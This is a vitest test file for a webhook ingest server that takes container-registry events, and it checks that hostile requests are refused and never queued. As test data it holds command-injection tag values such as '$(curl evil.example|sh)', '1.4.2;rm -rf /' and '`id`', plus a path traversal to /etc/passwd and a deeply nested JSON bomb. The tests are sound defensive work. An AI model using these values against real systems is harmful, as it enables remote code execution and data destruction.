import { request } from "node:http";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { endpointConfig, endpointSources, garNow, hubToken } from "./fixtures.js";
import type { IngestServer } from "./ingest-server.js";
import { post, startIngestServer } from "./ingest-server.js";
import type { RouteKit } from "./route-kits.js";
import { routeKits } from "./route-kits.js";

let server: IngestServer;
beforeEach(async () => {
  server = await startIngestServer(endpointConfig, { now: () => garNow, sources: endpointSources });
});
afterEach(async () => {
  expect(server.logs.join("")).not.toContain(hubToken);
  await server.close();
});

const send = async (
  kit: RouteKit,
  body: unknown,
  extra: Record<string, string> = {},
  path = kit.path,
) => {
  const raw = Buffer.from(typeof body === "string" ? body : JSON.stringify(body));
  return post(server.url + path, raw, { ...(await kit.headers(raw)), ...extra });
};
const nothingQueued = async () => expect(await server.queue.stats()).toMatchObject({ waiting: 0 });

describe.each(routeKits)("$name route refuses hostile requests and enqueues nothing", (kit) => {
  it("accepts the well-formed delivery (control)", async () => {
    expect((await send(kit, kit.body())).status).toBe(202);
    expect((await server.queue.stats()).waiting).toBeGreaterThan(0);
  });

  it("bad credentials → 401", async () => {
    const raw = Buffer.from(JSON.stringify(kit.body()));
    const bad = await kit.badAuth(raw);
    expect((await post(server.url + bad.path, raw, bad.headers)).status).toBe(401);
    await nothingQueued();
  });

  it("a body over 1 MB → 413", async () => {
    const huge = JSON.stringify({ ...(kit.body() as object), padding: "x".repeat(1024 * 1024) });
    expect((await send(kit, huge)).status).toBe(413);
    await nothingQueued();
  });

  it.each(["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])(
    "content type %s → 415",
    async (type) => {
      expect((await send(kit, kit.body(), { "Content-Type": type })).status).toBe(415);
      await nothingQueued();
    },
  );

  it("a JSON bomb (100,000 levels deep) → 400", async () => {
    expect((await send(kit, "[".repeat(100_000) + "]".repeat(100_000))).status).toBe(400);
    await nothingQueued();
  });

  it("bad JSON → 400", async () => {
    expect((await send(kit, '{"repository": ')).status).toBe(400);
    await nothingQueued();
  });

  it.each([
    ["path traversal", "example-org/../../../etc/passwd"],
    ["a homoglyph (Cyrillic а)", "ex\u0430mple-org/app"],
    ["a fullwidth solidus", "example-org\uff0fapp"],
    ["a percent-encoded traversal", "example-org/%2e%2e/app"],
  ])("%s in the repository name → 400", async (_what, repository) => {
    const reply = await send(kit, kit.withRepository(repository));
    expect(reply.status).toBe(400);
    await nothingQueued();
  });

  it.each([
    "1.4.2;rm -rf /",
    "$(curl evil.example|sh)",
    "`id`",
    "1.4.2 && reboot",
    "-rf",
    "1.4.2\n2.0.0",
  ])("tag %j → 400", async (tag) => {
    expect((await send(kit, kit.withTag(tag))).status).toBe(400);
    await nothingQueued();
  });
});

describe.each(routeKits.filter((k) => k.ignored !== null))("$name route", (kit) => {
  it("answers an event it does not use with 202 and the reason, and enqueues nothing", async () => {
    const reply = await send(kit, kit.ignored?.());
    expect(reply).toMatchObject({ status: 202, body: { ignored: expect.any(String) } });
    await nothingQueued();
    expect(server.logs.join("")).toContain("registry webhook ignored");
  });
});

describe("request handling", () => {
  it("cuts off a chunked body at 1 MB and closes the connection without reading the rest", async () => {
    const before = server.bytesRead();
    const status = await new Promise<number>((resolve, reject) => {
      let written = 0;
      const req = request(`${server.url}/hooks/generic`, {
        method: "POST",
        headers: {
          "content-type": "application/json",
          "transfer-encoding": "chunked",
          "x-signature-256": `sha256=${"0".repeat(64)}`,
        },
      });
      req.on("response", (res) => {
        res.resume();
        resolve(res.statusCode ?? 0);
        req.destroy();
      });
      req.on("error", (e) => (written > 0 ? undefined : reject(e)));
      const chunk = Buffer.alloc(64 * 1024, 0x20);
      const pump = () => {
        while (written < 64 * 1024 * 1024) {
          written += chunk.length;
          if (!req.write(chunk)) return req.once("drain", pump);
        }
        req.end();
      };
      pump();
    });
    expect(status).toBe(413);
    // The client queued 64 MB; the server stopped reading just past the 1 MB limit.
    expect(server.bytesRead() - before).toBeLessThan(4 * 1024 * 1024);
    await nothingQueued();
  });

  it("answers 404 for an unknown endpoint, 405 for GET, and leaves other paths to Probot", async () => {
    expect((await fetch(`${server.url}/hooks/nope`, { method: "POST" })).status).toBe(404);
    expect((await fetch(`${server.url}/hooks/harbor`)).status).toBe(405);
    expect((await fetch(`${server.url}/hooks/harbor/x/y`, { method: "POST" })).status).toBe(404);
    expect((await fetch(`${server.url}/elsewhere`)).status).toBe(404);
  });

  it("accepts the next secret during a rotation", async () => {
    const kit = routeKits.find((k) => k.name === "ACR");
    if (!kit) throw new Error("no ACR kit");
    expect(
      (await send(kit, kit.body(), { Authorization: "Bearer rotated-acr-value" })).status,
    ).toBe(202);
  });

  it("accepts ECR's Basic auth as well as its API key", async () => {
    const kit = routeKits.find((k) => k.name === "ECR");
    if (!kit) throw new Error("no ECR kit");
    const basic = `Basic ${Buffer.from("eventbridge:ecr-basic-password").toString("base64")}`;
    const raw = Buffer.from(JSON.stringify(kit.body()));
    expect(
      (
        await post(`${server.url}/hooks/ecr`, raw, {
          "Content-Type": "application/json",
          Authorization: basic,
        })
      ).status,
    ).toBe(202);
  });

  it("never logs a path token, and rewrites the URL before Probot's access log sees it", async () => {
    const kit = routeKits[0];
    if (!kit) throw new Error("no kit");
    await send(kit, kit.body());
    await send(kit, kit.withTag("bad tag"));
    expect(server.logs.join("")).toContain("registry webhook refused");
  });
});

describe("signed endpoints", () => {
  it.each(["nexus", "generic"])(
    "%s: a request without a signature is refused before its body is read",
    async (id) => {
      const before = server.bytesRead();
      const reply = await post(`${server.url}/hooks/${id}`, "x".repeat(900_000), {
        "Content-Type": "application/json",
      });
      expect(reply).toEqual({ status: 401, body: { error: "missing signature" } });
      expect(server.bytesRead() - before).toBeLessThan(900_000);
    },
  );
});
